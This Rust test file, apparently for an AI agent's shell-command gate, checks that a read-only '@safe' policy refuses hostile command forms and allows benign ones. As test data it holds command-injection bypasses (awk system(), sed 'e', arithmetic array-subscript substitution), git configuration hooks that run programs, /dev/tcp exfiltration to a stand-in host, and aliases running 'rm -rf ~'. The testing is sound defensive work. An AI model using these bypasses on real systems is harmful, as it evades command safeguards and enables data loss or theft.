//! `@safe` never runs code, writes, or reaches the network: each case below was allowed by an
//! earlier version and did harm when run. Each stands for a class.

mod common;

use common::{judge, safe_policy};
use shellgate_intercept::Decision;

fn refused(extra: &[&str], command: &str) {
    let j = judge(&safe_policy(extra), command);
    assert_ne!(
        j.decision(),
        Decision::Allow,
        "{command:?} under @safe + {extra:?} was allowed: {:?}",
        j.segments
    );
}

fn allowed(extra: &[&str], command: &str) {
    let j = judge(&safe_policy(extra), command);
    assert_eq!(
        j.decision(),
        Decision::Allow,
        "{command:?} under @safe + {extra:?} was refused: {:?}",
        j.reason
    );
}

#[test]
fn awk_division_after_a_trailing_dot_number_is_not_a_regex() {
    refused(&[], r#"awk 'BEGIN { x = 1. / 1; system("touch /tmp/p") }'"#);
    refused(&[], r#"awk 'BEGIN { x = 1 / 1; system("touch /tmp/p") }'"#);
    refused(
        &[],
        r#"awk 'BEGIN { x = a[1] / 2; y = 3 / 1; system("touch /tmp/p") }'"#,
    );
    refused(&[], r#"awk '{ print $1 / 2 / 3; system("id") }' f"#);
    allowed(&[], r"awk '{ print $1 / 2 }' f");
    allowed(&[], r"awk '/a\/b/ { print $2 }' f");
}

#[test]
fn sed_comments_end_at_the_line_whatever_the_backslash() {
    refused(&[], r"sed -e '#x\' -e 'e touch /tmp/p' f");
    refused(&[], r"sed -e 'r FILE\' -e 'e touch /tmp/p' f");
    refused(&[], "sed -n ':a e touch /tmp/p' f");
    refused(&[], "sed -n ':a;e touch /tmp/p' f");
    refused(&[], "sed 's/a/b/w out' f");
    refused(&[], "sed 's/a/b/e' f");
    allowed(&[], "sed -n '1,5p' f");
    allowed(&[], "sed -n '/^#/d; s/a/b/g; p' f");
}

#[test]
fn array_subscripts_are_arithmetic_and_arithmetic_runs_substitutions() {
    for command in [
        "printf -v 'a[$(touch /tmp/p)]' x",
        "test -v 'a[$(touch /tmp/p)]'",
        "[ -v 'a[$(touch /tmp/p)]' ]",
        "[[ -v 'a[$(touch /tmp/p)]' ]]",
        "declare 'a[$(touch /tmp/p)]=1'",
        "declare -i x='a[$(touch /tmp/p)]'",
        "typeset 'a[$(touch /tmp/p)]=1'",
        "local 'a[$(touch /tmp/p)]=1'",
        "export 'a[$(touch /tmp/p)]=1'",
        "readonly 'a[$(touch /tmp/p)]=1'",
        "read 'a[$(touch /tmp/p)]' < /dev/null",
        "let 'a[$(touch /tmp/p)]'",
        "x='a[$(touch /tmp/p)]'; echo $((x))",
        "x='a[$(touch /tmp/p)]'; (( x ))",
        "x='a[$(touch /tmp/p)]'; [[ x -eq 0 ]]",
        "x='a[$(touch /tmp/p)]'; [[ $x -eq 0 ]]",
        "x='a[$(touch /tmp/p)]'; test -v \"$x\"",
        "x='a[$(touch /tmp/p)]'; echo ${y:x:1}",
        "x='a[`touch /tmp/p`]'; echo $((x + 1))",
    ] {
        refused(&[], command);
    }
    allowed(&[], "x=3; echo $((x + 1))");
    allowed(&[], "test -v HOME");
    allowed(&[], "printf -v out '%s' hi");
}

#[test]
fn git_config_is_a_read_only_in_its_read_forms() {
    refused(&[], "git config core.fsmonitor 'touch /tmp/p' get");
    refused(&[], "git config --file /tmp/any k.v VAL get");
    refused(&[], "git config --file=/tmp/any k.v VAL");
    refused(&[], "git config set core.fsmonitor 'touch /tmp/p'");
    refused(&[], "git config --add core.pager less");
    refused(&[], "git config --unset core.pager");
    refused(&[], "git config --edit");
    refused(&[], "git config core.pager");
    allowed(&[], "git config --get user.name");
    allowed(&[], "git config --list");
    allowed(&[], "git config get user.name");
    allowed(&[], "git config --get-regexp '^remote'");
    allowed(&[], "git config list --show-origin");
}

#[test]
fn git_on_another_repository_is_not_safe() {
    refused(&[], "git -C /tmp/other status");
    refused(&[], "git --git-dir=/tmp/other/.git log");
    refused(&[], "git --work-tree=/tmp/other status");
    refused(&[], "git -C .. diff");
    allowed(&[], "git -C . status");
    allowed(&[], "git -C /work/ws log --oneline");
}

#[test]
fn dev_tcp_and_dev_udp_redirections_are_network() {
    refused(&[], "timeout 3 head -n1 < /dev/tcp/127.0.0.1/8081");
    refused(&[], "echo hi > /dev/udp/127.0.0.1/53");
    refused(&[], "cat < /dev/tcp/$(whoami).example/80");
    refused(&[], "exec 3<>/dev/tcp/127.0.0.1/80");
    refused(&[], "cat 0</dev/tcp/127.0.0.1/80");
    refused(&[], "x=/dev/tcp/127.0.0.1/80; cat < $x");
}

#[test]
fn read_only_commands_writing_through_options_are_refused() {
    refused(&[], "GIT_TRACE=/tmp/any git status");
    refused(&[], "GIT_TRACE2_EVENT=/tmp/any git log");
    refused(&[], "ptx -G in out");
    refused(&[], "hostname --file=F");
    refused(&[], "hostname -F F");
    refused(&[], "hostname newname");
    refused(&[], "git branch --sort=x NAME");
    refused(&[], "git branch NAME");
    refused(&[], "git tag v9");
    allowed(&[], "git branch --sort=-committerdate");
    allowed(&[], "git branch -a");
    allowed(&[], "hostname");
    allowed(&[], "ptx in");
}

#[test]
fn wildcard_rules_for_build_tools_do_not_cover_options_that_run_programs() {
    let cases: &[(&str, &str)] = &[
        (
            "cargo test *",
            r#"cargo test --config 'target.x86_64-unknown-linux-gnu.runner="touch /tmp/p"'"#,
        ),
        ("cargo test *", "cargo test --config build.rustc-wrapper=/tmp/x"),
        ("cargo test *", "RUSTC=/x cargo test"),
        ("cargo test *", "RUSTC_WORKSPACE_WRAPPER=/x cargo test"),
        (
            "cargo test *",
            "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/x cargo test",
        ),
        ("cargo test *", "cargo test -Z unstable-options"),
        ("npm run *", "npm run build --script-shell=/tmp/x"),
        ("npm run *", "npm run build --script-shell /tmp/x"),
        ("make test *", "make test SHELL=/tmp/x"),
        ("make test *", "make test --eval='x:=$(shell id)'"),
        ("make test *", "make test -f /tmp/Makefile"),
        ("pytest *", "pytest -p plugin"),
        ("pytest *", "pytest -pplugin"),
        ("go test *", "go test -exec /tmp/x ./..."),
        ("go test *", "go test -toolexec /tmp/x ./..."),
        ("docker ps *", "docker ps -H tcp://10.0.0.1:2375"),
        ("docker ps *", "docker --host tcp://10.0.0.1:2375 ps"),
        ("kubectl get *", "kubectl get pods --kubeconfig /tmp/k"),
        ("kubectl get *", "PYTHONUSERBASE=/tmp/x kubectl get pods"),
        ("cargo test *", "OPENSSL_CONF=/tmp/x cargo test"),
    ];
    for (rule, command) in cases {
        refused(&[rule], command);
    }
    allowed(&["cargo test *"], "cargo test --release");
    allowed(&["cargo test *"], "RUST_LOG=debug cargo test -p x");
    allowed(&["npm run *"], "npm run build");
    allowed(&["make test *"], "make test -j4");
    allowed(&["pytest *"], "pytest -q tests/");
    allowed(&["go test *"], "go test -run TestX ./...");
    allowed(&["docker ps *"], "docker ps -a");
    allowed(&["kubectl get *"], "kubectl get pods -n x");
}

#[test]
fn privilege_wrappers_are_never_safe() {
    for command in [
        "sudo bash -lc 'echo hi'",
        "doas bash -lc 'echo hi'",
        "sudo ls",
        "su -c 'ls' root",
        "pkexec ls",
        "run0 ls",
        "sudo -u nobody cat /etc/hostname",
    ] {
        refused(&[], command);
    }
}

/// Judge `command` as run in `dir`.
fn judge_in(dir: &std::path::Path, command: &str) -> Decision {
    use shellgate_normalize::{Normalizer, StandardNormalizer};
    let ctx = shellgate_intercept::Context {
        cwd: Some(dir.to_path_buf()),
        ..Default::default()
    };
    safe_policy(&[])
        .judge(&StandardNormalizer::default().normalize(command), &ctx)
        .decision()
}

#[test]
fn a_repository_whose_own_configuration_runs_programs_is_not_read_safely() {
    let ws = tempfile::tempdir().unwrap();
    let git = ws.path().join(".git");
    std::fs::create_dir_all(&git).unwrap();
    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").unwrap();
    assert_eq!(judge_in(ws.path(), "git status"), Decision::Allow);
    assert_eq!(judge_in(ws.path(), "git log --oneline"), Decision::Allow);
    for (config, command) in [
        ("[core]\n\tfsmonitor = touch /tmp/p\n", "git status"),
        ("[diff]\n\texternal = /tmp/x\n", "git diff"),
        ("[diff \"bin\"]\n\ttextconv = /tmp/x\n", "git log -p"),
        ("[gpg]\n\tprogram = /tmp/x\n", "git log --show-signature"),
        ("[filter \"x\"]\n\tclean = /tmp/x\n", "git status"),
        ("[include]\n\tpath = /tmp/other\n", "git status"),
        ("[pager]\n\tlog = /tmp/x\n", "git log"),
    ] {
        std::fs::write(git.join("config"), config).unwrap();
        assert_ne!(
            judge_in(ws.path(), command),
            Decision::Allow,
            "{config:?} {command}"
        );
        // The same from a subdirectory, and through `cd`.
        std::fs::create_dir_all(ws.path().join("src")).unwrap();
        assert_ne!(
            judge_in(&ws.path().join("src"), command),
            Decision::Allow,
            "{config:?} {command}"
        );
        assert_ne!(
            judge_in(ws.path(), &format!("cd src && {command}")),
            Decision::Allow
        );
    }
    // A nested repository with its own configuration, reached with `-C`.
    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").unwrap();
    let nested = ws.path().join("vendor/x/.git");
    std::fs::create_dir_all(&nested).unwrap();
    std::fs::write(nested.join("config"), "[core]\n\tfsmonitor = touch /tmp/p\n").unwrap();
    assert_ne!(judge_in(ws.path(), "git -C vendor/x status"), Decision::Allow);
    assert_eq!(judge_in(ws.path(), "git -C src status"), Decision::Allow);
    // A `.git` file pointing elsewhere (a linked worktree) is followed.
    let linked = ws.path().join("wt");
    std::fs::create_dir_all(&linked).unwrap();
    std::fs::write(linked.join(".git"), format!("gitdir: {}\n", nested.display())).unwrap();
    assert_ne!(judge_in(&linked, "git status"), Decision::Allow);
}

#[test]
fn git_in_a_directory_only_known_at_run_time_is_not_safe() {
    refused(&[], "cd \"$(mktemp -d)\" && git status");
    refused(&[], "cd $DIR && git log");
}

fn judge_in_session(state: &str, busy: bool, command: &str) -> Decision {
    use shellgate_normalize::{Normalizer, StandardNormalizer};
    let mut view = shellgate_intercept::SessionView::from_saved_state(state);
    view.busy = busy;
    let ctx = shellgate_intercept::Context {
        cwd: Some(common::WORKSPACE.into()),
        session: Some(std::sync::Arc::new(view)),
        ..Default::default()
    };
    safe_policy(&[])
        .judge(&StandardNormalizer::default().normalize(command), &ctx)
        .decision()
}

#[test]
fn session_functions_and_aliases_are_judged_by_their_bodies() {
    let state = &common::bash_state(
        "declare -- x=\"a[\\$(touch /tmp/p)]\"\ndeclare -- y=\"x\"\ndeclare -- z=\"3\"\ndeclare -i n=\"1\"\n",
        "ls () \n{ \n    rm -rf ~\n}\ngrep () \n{ \n    command grep --color=never \"$@\"\n}\n\
         alias cat='rm -rf ~ #'\nalias ll='grep -n'\nalias e='echo '\n",
        "",
    );
    let no = |c: &str| assert_ne!(judge_in_session(state, false, c), Decision::Allow, "{c}");
    let yes = |c: &str| assert_eq!(judge_in_session(state, false, c), Decision::Allow, "{c}");
    for c in [
        "ls",
        "ls -la",
        "cat f",
        "X=1 cat f",
        "sh -c ls",
        "e hi",
        "echo $((x))",
        "echo $((y + 1))",
        "echo ${HOME:x:1}",
        "[[ y -gt 0 ]]",
        "(( x ))",
        "n=$(cat f)",
        "for n in *; do :; done",
    ] {
        no(c);
    }
    for c in [
        "grep -n x f",
        "ll x f",
        "command ls",
        "\\cat f",
        "'cat' f",
        "echo $((z + 1))",
        "n=3",
        "pwd",
    ] {
        yes(c);
    }
    // While another command runs in the session, nothing is known to be safe.
    assert_ne!(judge_in_session(state, true, "pwd"), Decision::Allow);
    // A handler for names not found runs for any of them.
    let handler = common::bash_state("", "command_not_found_handle () \n{ \n    rm -rf ~\n}\n", "");
    assert_ne!(judge_in_session(&handler, false, "pwd"), Decision::Allow);
    // An unreadable function: its text's extent is unknown, so nothing is judged safe.
    let broken = common::bash_state("", "ls () \n{ \n    if then\n}\n", "");
    assert_ne!(judge_in_session(&broken, false, "ls"), Decision::Allow);
    assert_ne!(judge_in_session(&broken, false, "pwd"), Decision::Allow);
}
